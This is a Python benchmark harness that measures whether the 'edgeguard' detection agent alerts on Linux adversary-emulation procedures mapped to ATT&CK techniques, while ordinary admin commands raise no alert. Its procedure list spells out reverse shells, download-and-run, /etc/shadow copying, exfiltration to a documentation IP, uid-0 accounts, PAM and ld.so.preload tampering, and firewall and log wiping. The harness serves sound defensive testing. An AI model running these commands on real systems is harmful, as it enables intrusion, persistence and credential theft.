#!/usr/bin/env python3
"""Adversary procedures against the real agent: which ones raise an alert with the right technique.

Issue 17 measures detection by running public adversary-emulation procedures for Linux on a host
with edgeguard and counting the ones that raise an alert mapped to the right ATT&CK technique,
with no alert during ordinary administration. This harness does the same with procedures written
after the public Linux atomics (history clearing, accounts, cron/systemd persistence, shell
profiles, SSH keys, setuid and capabilities, decode-and-run, download-and-run, credential files,
firewall, timestomping, kernel modules, audit, logs, reverse shells, ...): the shape of the
commands an operator types, not of any one test suite.

It runs in a sandbox so the host's files are not changed: a private mount namespace where /etc,
/root, /home, /var, /usr/local and /usr/{bin,sbin} are overlays on a tmpfs (the procedures write
into the overlay; the agent watches the same mounts). The network namespace is the host's, as
for the module (the kernel's process connector exists only there), so the firewall procedures
change the host's ruleset: it is saved first (`iptables-save`, `ip6tables-save`, other nft tables
as text) and restored at the end, also when the harness fails (not when it is killed). Do not
run it where a few seconds without firewall rules matter.

    python3 benches/procedures.py [--agent target/release/edgeguard] [--only ID,ID] [--json F]

Needs root, `unshare`, `ip`, `nft`/`iptables`, and the tools the procedures call (a missing tool
is still run: the attempt is what a real operator's shell would start). Results are printed as
a table; publish them in docs/benchmarks.md ("Adversary procedures").
"""

import argparse
import http.server
import json
import os
import shutil
import socketserver
import subprocess
import sys
import tempfile
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(HERE)

# (id, technique, command). The command runs with `bash -c` as root in the sandbox, HOME=/root,
# with {port} the loopback web server's port (it serves /payload.sh and /index.html).
PROCEDURES = [
    # T1070.003 Clear command history
    ("history-rm", "T1070.003", "rm -f ~/.bash_history"),
    ("history-echo-empty", "T1070.003", "echo '' > ~/.bash_history"),
    ("history-cat-devnull", "T1070.003", "cat /dev/null > ~/.bash_history"),
    ("history-link-devnull", "T1070.003", "ln -sf /dev/null ~/.bash_history"),
    ("history-truncate", "T1070.003", "truncate -s0 ~/.bash_history"),
    ("history-unset-histfile", "T1070.003", "bash -c 'unset HISTFILE; export HISTFILESIZE=0; echo off'"),
    # T1136.001 Create local account
    ("useradd-system", "T1136.001", "useradd -M -N -r -s /bin/bash -c evil_account art"),
    ("useradd-root-group", "T1136.001",
     "useradd -g 0 -M -d /root -s /bin/bash butter && echo 'butter:BetterWithButter' | chpasswd"),
    ("useradd-uid0", "T1136.001", "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash rooty"),
    # T1098 Account manipulation
    ("usermod-add-root-group", "T1098", "usermod -a -G root art"),
    # T1053.003 Cron
    ("crontab-replace", "T1053.003",
     "echo '* * * * * /tmp/evil.sh' > /tmp/persistevil && crontab /tmp/persistevil"),
    ("cron-d-file", "T1053.003", "echo '* * * * * root /tmp/evil.sh' > /etc/cron.d/persistevil"),
    ("cron-daily-script", "T1053.003",
     "printf '#!/bin/sh\\n/tmp/evil.sh\\n' > /etc/cron.daily/persistevil && chmod +x /etc/cron.daily/persistevil"),
    ("cron-spool-append", "T1053.003",
     "mkdir -p /var/spool/cron/crontabs && echo '* * * * * /tmp/evil.sh' >> /var/spool/cron/crontabs/root"),
    # T1543.002 Systemd service, T1053.006 systemd timer
    ("systemd-service", "T1543.002",
     "printf '[Unit]\\nDescription=art\\n[Service]\\nExecStart=/tmp/art.sh\\n[Install]\\nWantedBy=multi-user.target\\n'"
     " > /etc/systemd/system/art-systemd-service.service && systemctl daemon-reload; systemctl enable art-systemd-service.service; true"),
    ("systemd-timer", "T1053.006",
     "printf '[Timer]\\nOnCalendar=*:*:00\\n[Install]\\nWantedBy=timers.target\\n' > /etc/systemd/system/art-timer.timer"
     " && printf '[Service]\\nExecStart=/tmp/art.sh\\n' > /etc/systemd/system/art-timer.service"),
    # T1546.004 Shell configuration modification
    ("bashrc-append", "T1546.004", "echo 'echo \"Hello from ART\" > /tmp/art-bashrc' >> ~/.bashrc"),
    ("etc-profile-append", "T1546.004", "echo 'echo \"Hello from ART\"' >> /etc/profile"),
    ("profile-d-file", "T1546.004", "echo 'echo \"Hello from ART\"' > /etc/profile.d/bash_art.sh"),
    # T1037.004 RC scripts
    ("rc-local", "T1037.004", "printf '#!/bin/sh\\n/tmp/art.sh &\\n' >> /etc/rc.local && chmod +x /etc/rc.local"),
    # T1098.004 SSH authorized keys
    ("authorized-keys-append", "T1098.004",
     "mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIArt art@attacker' >> ~/.ssh/authorized_keys"),
    # T1548.001 Setuid and setgid, capabilities
    ("setuid-shell", "T1548.001", "cp /bin/sh /tmp/evilsh && chown root /tmp/evilsh && chmod u+s /tmp/evilsh"),
    ("setgid-shell", "T1548.001", "cp /bin/sh /tmp/evilsh2 && chmod g+s /tmp/evilsh2"),
    ("setcap-python", "T1548.001", "cp /usr/bin/python3 /tmp/evilpy && setcap cap_setuid+ep /tmp/evilpy"),
    # T1548.003 Sudo
    ("sudoers-nopasswd", "T1548.003", "mkdir -p /etc/sudoers.d && echo 'art ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/art"),
    # T1140 Deobfuscate/decode and run
    ("base64-pipe-bash", "T1140", "echo ZWNobyBoZWxsbyBmcm9tIGFydAo= | base64 -d | bash"),
    ("xxd-pipe-sh", "T1140", "echo 6563686f2068656c6c6f0a | xxd -r -p | sh"),
    ("python-b64-exec", "T1140",
     "python3 -c \"import base64,os; os.system(base64.b64decode('ZWNobyBoZWxsbw==').decode())\""),
    ("base64-file-then-run", "T1140",
     "echo ZWNobyBoZWxsbwo= > /tmp/art.enc && base64 -d /tmp/art.enc > /tmp/art.dec.sh && sh /tmp/art.dec.sh"),
    # T1105 Ingress tool transfer (download and run)
    ("curl-pipe-bash", "T1105", "curl -s http://127.0.0.1:{port}/payload.sh | bash"),
    ("wget-chmod-run", "T1105",
     "wget -q -O /tmp/payload.sh http://127.0.0.1:{port}/payload.sh && chmod +x /tmp/payload.sh && /tmp/payload.sh"),
    ("curl-output-then-sh", "T1105", "curl -s -o /tmp/art-dl http://127.0.0.1:{port}/payload.sh && sh /tmp/art-dl"),
    # T1003.008 /etc/passwd and /etc/shadow, T1552.004 private keys
    ("cat-shadow", "T1003.008", "cat /etc/shadow > /dev/null"),
    ("copy-shadow", "T1003.008", "cp /etc/shadow /tmp/shadow.copy && cp /etc/passwd /tmp/passwd.copy"),
    ("find-private-keys", "T1552.004", "find /root /home /etc -name 'id_rsa*' -o -name '*.pem' 2>/dev/null | head -1 > /dev/null"),
    # T1562.004 Disable or modify system firewall
    ("iptables-flush", "T1562.004", "iptables -F"),
    ("iptables-policy-accept", "T1562.004", "iptables -P INPUT ACCEPT"),
    ("nft-flush-ruleset", "T1562.004", "nft flush ruleset"),
    # T1070.006 Timestomp
    ("touch-access-time", "T1070.006", "touch /tmp/art-ts && touch -a -t 197001010000.00 /tmp/art-ts"),
    ("touch-modify-time", "T1070.006", "touch -m -t 197001010000.00 /tmp/art-ts"),
    ("touch-reference", "T1070.006", "touch -r /bin/sh /tmp/art-ts"),
    # T1547.006 Kernel modules
    ("insmod", "T1547.006", "insmod /tmp/art_module.ko"),
    ("modprobe", "T1547.006", "modprobe art_module"),
    # T1562.012 Disable or modify Linux audit system
    ("auditctl-disable", "T1562.012", "auditctl -e 0"),
    ("auditctl-delete-rules", "T1562.012", "auditctl -D"),
    ("auditd-stop", "T1562.012", "systemctl stop auditd; service auditd stop; true"),
    # T1070.002 Clear Linux logs
    ("logs-rm", "T1070.002", "rm -rf /var/log/art-test.log /var/log/*.log"),
    ("logs-truncate", "T1070.002", "truncate -s 0 /var/log/syslog"),
    ("logs-shred", "T1070.002", "shred -u /var/log/messages"),
    # T1059.004 Reverse shells
    ("bash-dev-tcp", "T1059.004", "timeout 3 bash -c 'bash -i >& /dev/tcp/127.0.0.1/{rport} 0>&1'"),
    ("python-reverse-shell", "T1059.006",
     "timeout 3 python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"127.0.0.1\",{rport}));"
     "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call([\"/bin/sh\",\"-i\"])'"),
    ("mkfifo-nc-shell", "T1059.004",
     "rm -f /tmp/f; mkfifo /tmp/f; timeout 3 sh -c 'cat /tmp/f | /bin/sh -i 2>&1 | nc 127.0.0.1 {rport} > /tmp/f'; true"),
    # T1574.006 Dynamic linker hijacking
    ("ld-so-preload", "T1574.006", "echo /tmp/art.so > /etc/ld.so.preload"),
    # T1556.003 PAM
    ("pam-rule", "T1556.003", "sed -i '1s/^/auth sufficient pam_succeed_if.so uid >= 0\\n/' /etc/pam.d/su"),
    # T1496 Resource hijacking
    ("miner-stratum", "T1496",
     "cp /bin/true /tmp/xmrig && /tmp/xmrig --url stratum+tcp://pool.example.org:3333 -u wallet -p x"),
    # T1036.006 Space after filename
    ("space-after-name", "T1036.006", "cp /bin/echo '/tmp/art.txt ' && '/tmp/art.txt ' hi"),
    # T1027.004 Compile after delivery
    ("compile-in-tmp", "T1027.004",
     "printf 'int main(){{return 0;}}\\n' > /tmp/art.c && gcc /tmp/art.c -o /tmp/art-compiled"),
    # T1564.001 Hidden files, run from a temporary directory
    ("hidden-exec-var-tmp", "T1059",
     "mkdir -p /var/tmp/.art && cp /bin/true /var/tmp/.art/.hidden && /var/tmp/.art/.hidden"),
    # T1222.002 / T1485: wipe of a system path
    ("rm-rf-system", "T1485", "rm -rf --no-preserve-root /usr/local/share/art-victim /etc/art-victim"),
    # T1048 Exfiltration over an alternative protocol (the address is a documentation one:
    # the upload fails, the attempt is what counts)
    ("curl-upload", "T1048", "curl -s --max-time 1 -T /etc/passwd ftp://198.51.100.7/in/; true"),
    ("tar-to-nc", "T1048", "timeout 2 bash -c 'tar czf - /etc/hostname | nc -w 1 198.51.100.7 9000'; true"),
    # T1222.002 Linux file permissions: persistence made immutable (bots, droppers)
    ("chattr-immutable-cron", "T1222.002",
     "touch /etc/cron.d/art-locked; chattr +i /etc/cron.d/art-locked; chattr -i /etc/cron.d/art-locked; true"),
    # T1489 Service stop: competing miners killed
    ("kill-competing-miner", "T1489", "pkill -f kdevtmpfsi; killall -9 xmrig; true"),
    # T1531 Account access removal
    ("userdel", "T1531", "userdel art"),
]

# Ordinary administration: none of these may raise an alert.
ADMIN = [
    ("list-etc", "ls -la /etc > /dev/null"),
    ("processes", "ps aux > /dev/null"),
    ("addresses", "ip addr > /dev/null && ip route > /dev/null"),
    ("os-release", "cat /etc/os-release > /dev/null"),
    ("disk-usage", "df -h > /dev/null && du -sh /etc > /dev/null 2>&1"),
    ("grep-passwd", "grep root /etc/passwd > /dev/null"),
    ("firewall-list", "iptables -L -n > /dev/null && nft list ruleset > /dev/null"),
    ("firewall-add-rule", "iptables -A INPUT -p tcp --dport 8443 -j ACCEPT"),
    ("crontab-list", "crontab -l > /dev/null 2>&1; true"),
    ("backup-etc", "tar czf /root/etc-backup.tgz /etc 2>/dev/null; true"),
    ("edit-hosts", "cp /etc/hosts /etc/hosts.bak && echo '10.0.0.5 gateway' >> /etc/hosts"),
    ("motd", "echo 'maintenance tonight' > /etc/motd && chmod 644 /etc/motd"),
    ("download-page", "curl -s -o /root/index.html http://127.0.0.1:{port}/index.html"),
    ("python-one-liner", "python3 -c 'print(sum(range(10)))' > /dev/null"),
    ("compile-in-home", "printf 'int main(){{return 0;}}\\n' > /root/t.c && gcc /root/t.c -o /root/t && /root/t"),
    ("encode-not-run", "base64 /etc/hostname > /dev/null && echo aGk= | base64 -d > /dev/null"),
    ("log-rotation",
     "echo line >> /var/log/app.log && mv /var/log/app.log /var/log/app.log.1 && gzip -f /var/log/app.log.1"
     " && touch /var/log/app.log"),
    ("service-status", "systemctl status cron > /dev/null 2>&1; true"),
    ("touch-file", "touch /root/notes.txt"),
    ("sed-config", "sed -i 's/maintenance/Maintenance/' /etc/motd"),
    ("find-config", "find /etc -name '*.conf' > /dev/null"),
    ("api-post-local", "curl -s --max-time 1 -d @/etc/hostname http://127.0.0.1:{port}/index.html > /dev/null; true"),
    ("reload-daemon", "pkill -HUP rsyslogd; true"),
]


class Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *args):
        pass


def serve(directory):
    handler = lambda *a, **k: Quiet(*a, directory=directory, **k)  # noqa: E731
    server = socketserver.TCPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def listener():
    """A TCP listener on loopback that accepts and holds connections (the reverse shells' peer)."""
    import socket

    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    s.listen(16)
    held = []

    def loop():
        while True:
            try:
                c, _ = s.accept()
                held.append(c)
            except OSError:
                return

    threading.Thread(target=loop, daemon=True).start()
    return s


def sandbox(tmp):
    """Overlays over the directories the procedures write, a loopback-only network with rules."""
    subprocess.run(["mount", "--make-rprivate", "/"], check=True)
    subprocess.run(["mount", "-t", "tmpfs", "tmpfs", tmp], check=True)
    for d in ["/etc", "/root", "/home", "/var", "/usr/local", "/usr/bin", "/usr/sbin"]:
        name = d.strip("/").replace("/", "_")
        up, work = f"{tmp}/up/{name}", f"{tmp}/work/{name}"
        os.makedirs(up)
        os.makedirs(work)
        subprocess.run(
            ["mount", "-t", "overlay", "overlay", "-o", f"lowerdir={d},upperdir={up},workdir={work}", d],
            check=True,
        )
    # Rules of our own to flush, which block nothing in use.
    rules = (
        "table inet eg_procedures {\n chain input { type filter hook input priority 0; policy accept;\n"
        "  tcp dport 31337 drop\n }\n}\n"
    )
    subprocess.run(["nft", "-f", "-"], input=rules.encode(), check=False)
    subprocess.run(["iptables", "-A", "INPUT", "-p", "tcp", "--dport", "31338", "-j", "DROP"], check=False)
    os.makedirs("/var/log", exist_ok=True)
    for f in ["syslog", "messages", "auth.log", "art-test.log"]:
        with open(f"/var/log/{f}", "a") as fh:
            fh.write("Dec  3 10:00:00 host test: line\n")
    with open("/root/.bash_history", "a") as fh:
        fh.write("ls\n")
    os.makedirs("/usr/local/share/art-victim", exist_ok=True)
    os.makedirs("/etc/art-victim", exist_ok=True)
    for d in ["/etc/cron.d", "/etc/cron.daily", "/etc/systemd/system", "/etc/profile.d", "/etc/pam.d"]:
        os.makedirs(d, exist_ok=True)
    if not os.path.exists("/etc/pam.d/su"):
        with open("/etc/pam.d/su", "w") as fh:
            fh.write("auth sufficient pam_rootok.so\n")


class Agent:
    def __init__(self, binary, state):
        self.state = state
        self.out = os.path.join(state, "messages.jsonl")
        self.log = open(os.path.join(state, "agent.log"), "wb")
        config = {
            "highPriorityMessageFrequency": "PT1S",
            "lowPriorityMessageFrequency": "PT2S",
            "snapshotFrequency": "PT1H",
            "containerCollectionEnabled": False,
        }
        env = dict(os.environ, EDGEGUARD_CONFIG_JSON=json.dumps(config), RUST_LOG="info")
        for k in ["IOTEDGE_MODULEID", "IOTEDGE_DEVICEID", "IOTEDGE_WORKLOADURI"]:
            env.pop(k, None)
        self.proc = subprocess.Popen(
            [binary, "run", "--state-dir", state, "--sink", "file", "--output", self.out, "--metrics-addr", "off"],
            stdout=subprocess.DEVNULL,
            stderr=self.log,
            env=env,
        )
        self.offset = 0
        self.alerts = []

    def wait_ready(self, timeout=60):
        deadline = time.time() + timeout
        fim = os.path.join(self.state, "file-integrity.json")
        while time.time() < deadline:
            if self.proc.poll() is not None:
                sys.exit(f"the agent exited: see {self.log.name}")
            if os.path.exists(fim) and os.path.exists(self.out) and os.path.getsize(self.out) > 0:
                return
            time.sleep(0.1)
        sys.exit(f"the agent was not ready in {timeout} s: see {self.log.name}")

    def poll(self):
        """New alerts written since the last call."""
        new = []
        if not os.path.exists(self.out):
            return new
        with open(self.out, "rb") as fh:
            fh.seek(self.offset)
            data = fh.read()
        end = data.rfind(b"\n")
        if end < 0:
            return new
        self.offset += end + 1
        for line in data[: end + 1].splitlines():
            try:
                msg = json.loads(line)
            except ValueError:
                continue
            for ev in msg.get("Events", []):
                if ev.get("Name") != "Alert":
                    continue
                for rec in ev.get("Payload", []):
                    new.append(rec)
        self.alerts += new
        return new

    def stop(self):
        self.proc.terminate()
        try:
            self.proc.wait(30)
        except subprocess.TimeoutExpired:
            self.proc.kill()


def matches(technique, alert):
    """The alert names the technique, its parent, or a sub-technique of it."""
    for t in alert.get("Techniques", []):
        if t == technique or t.split(".")[0] == technique or technique.split(".")[0] == t:
            return True
    return False


def run_one(agent, command, port, rport, technique, wait):
    cmd = command.format(port=port, rport=rport)
    subprocess.run(["bash", "-c", cmd], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                   env=dict(os.environ, HOME="/root"), timeout=60)
    got = []
    deadline = time.time() + wait
    while time.time() < deadline:
        got += agent.poll()
        if technique and any(matches(technique, a) for a in got):
            # Let the rest of this procedure's alerts land in its window.
            settle = time.time() + 2
            while time.time() < settle:
                got += agent.poll()
                time.sleep(0.1)
            break
        time.sleep(0.1)
    return got


def inside(args):
    tmp = tempfile.mkdtemp(prefix="eg-proc-")
    state = tempfile.mkdtemp(prefix="eg-proc-state-")
    firewall = save_firewall()
    try:
        sandbox(tmp)
        run_all(args, state)
    finally:
        restore_firewall(firewall)


# iptables' own tables: saved and restored with iptables-save/-restore, which keep what
# iptables-nft stores beside the rules (nft's text form loses it and iptables then refuses the
# table). Other nft tables are saved as nft text.
IPTABLES_TABLES = {"filter", "nat", "mangle", "raw", "security"}


def save_firewall():
    saved = {}
    for tool in ["iptables", "ip6tables"]:
        out = subprocess.run([f"{tool}-save"], capture_output=True)
        saved[tool] = out.stdout if out.returncode == 0 else None
    native = []
    tables = subprocess.run(["nft", "list", "tables"], capture_output=True, text=True).stdout
    for line in tables.splitlines():
        parts = line.split()
        if len(parts) == 3 and not (parts[1] in ("ip", "ip6") and parts[2] in IPTABLES_TABLES):
            text = subprocess.run(["nft", "list", "table", parts[1], parts[2]], capture_output=True).stdout
            native.append(text)
    saved["nft"] = native
    return saved


def restore_firewall(saved):
    subprocess.run(["nft", "flush", "ruleset"], check=False)
    for tool in ["iptables", "ip6tables"]:
        if saved.get(tool):
            if subprocess.run([f"{tool}-restore"], input=saved[tool]).returncode != 0:
                print(f"could not restore {tool}; it was:\n" + saved[tool].decode(), file=sys.stderr)
    for text in saved["nft"]:
        if subprocess.run(["nft", "-f", "-"], input=text).returncode != 0:
            print("could not restore an nft table; it was:\n" + text.decode(), file=sys.stderr)


# Shell words that are not programs on PATH.
SHELL_WORDS = {"cd", "echo", "export", "history", "unset", "set", "true", "false", ":", "[", "test",
               "kill", "exec", "eval", "for", "if", "while", "(", "{", "printf", "read", "umask"}


def missing_tool(command):
    """The program a procedure starts first, when it is not installed (`None` when it is, or when
    the command starts with a shell word or an assignment)."""
    words = command.split()
    while words and "=" in words[0] and not words[0].startswith(("/", "=")):
        words = words[1:]
    if not words or words[0] in SHELL_WORDS:
        return None
    first = words[0]
    return None if shutil.which(first) or os.path.exists(first) else first


def run_all(args, state):
    www = os.path.join(state, "www")
    os.makedirs(www)
    with open(os.path.join(www, "payload.sh"), "w") as fh:
        fh.write("#!/bin/sh\necho payload ran > /tmp/art-payload-ran\n")
    with open(os.path.join(www, "index.html"), "w") as fh:
        fh.write("<html>hello</html>\n")
    server = serve(www)
    port = server.server_address[1]
    rport = listener().getsockname()[1]
    agent = Agent(args.agent, state)
    agent.wait_ready()
    time.sleep(0.5)
    agent.poll()
    only = set(args.only.split(",")) if args.only else None

    results = {"procedures": [], "admin": []}
    if not only:
        for ident, command in ADMIN:
            got = run_one(agent, command, port, rport, None, 0)
            results["admin"].append({"id": ident, "alerts": []})
        # One wait for the whole admin phase: any alert in it is a false positive.
        got = run_one(agent, "true", port, rport, None, args.wait)
        results["admin_alerts"] = [{"rule": a.get("RuleId"), "command": a.get("CommandLine"),
                                    "description": a.get("Description")} for a in got]
    for ident, technique, command in PROCEDURES:
        if only and ident not in only:
            continue
        got = run_one(agent, command, port, rport, technique, args.wait)
        hit = [a for a in got if matches(technique, a)]
        results["procedures"].append({
            "id": ident, "technique": technique, "detected": bool(hit),
            "rules": sorted({a.get("RuleId") for a in got}),
            "right_technique_rules": sorted({a.get("RuleId") for a in hit}),
        })
        mark = "hit " if hit else ("other" if got else "MISS")
        missing = missing_tool(command)
        if missing:
            results["procedures"][-1]["missing_tool"] = missing
        note = f"  (not installed: {missing})" if missing else ""
        print(f"{mark:5} {ident:26} {technique:10} {','.join(sorted({a.get('RuleId') for a in got}))}{note}",
              flush=True)
    agent.stop()
    n = len(results["procedures"])
    hits = sum(p["detected"] for p in results["procedures"])
    techniques = {p["technique"] for p in results["procedures"]}
    hit_t = {p["technique"] for p in results["procedures"] if p["detected"]}
    print(f"\nprocedures: {hits}/{n} detected with the right technique ({100.0 * hits / max(n, 1):.0f} %); "
          f"techniques {len(hit_t)}/{len(techniques)}")
    absent = [(p["id"], p["missing_tool"]) for p in results["procedures"] if "missing_tool" in p]
    if absent:
        print(f"WARNING: {len(absent)} procedures start a program this machine lacks, so they never exec "
              f"and count as misses: {', '.join(f'{i} ({t})' for i, t in absent)}")
    if "admin_alerts" in results:
        print(f"ordinary administration: {len(ADMIN)} commands, {len(results['admin_alerts'])} alerts")
        for a in results["admin_alerts"]:
            print(f"  false positive: {a['rule']}: {a['command']}")
    if args.json:
        with open(args.json, "w") as fh:
            json.dump(results, fh, indent=1)
    if not args.keep:
        shutil.rmtree(state, ignore_errors=True)
    else:
        print(f"agent state, messages and log: {state}")


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--agent", default=os.path.join(ROOT, "target/release/edgeguard"))
    p.add_argument("--only", help="comma-separated procedure ids")
    p.add_argument("--wait", type=float, default=8.0, help="seconds to wait for an alert per procedure")
    p.add_argument("--json", help="write the results here")
    p.add_argument("--keep", action="store_true", help="keep the agent's state, messages and log")
    p.add_argument("--inside", action="store_true", help=argparse.SUPPRESS)
    args = p.parse_args()
    if os.geteuid() != 0:
        sys.exit("needs root (namespaces, overlays, the agent's kernel sources)")
    if not os.path.exists(args.agent):
        sys.exit(f"no agent at {args.agent}: cargo build --release (or --agent PATH)")
    if args.inside:
        inside(args)
        return
    argv = [sys.executable, os.path.abspath(__file__), "--inside", "--agent", os.path.abspath(args.agent),
            "--wait", str(args.wait)]
    if args.only:
        argv += ["--only", args.only]
    if args.json:
        argv += ["--json", os.path.abspath(args.json)]
    if args.keep:
        argv += ["--keep"]
    sys.exit(subprocess.run(["unshare", "--mount", "--fork", "--"] + argv).returncode)


if __name__ == "__main__":
    main()
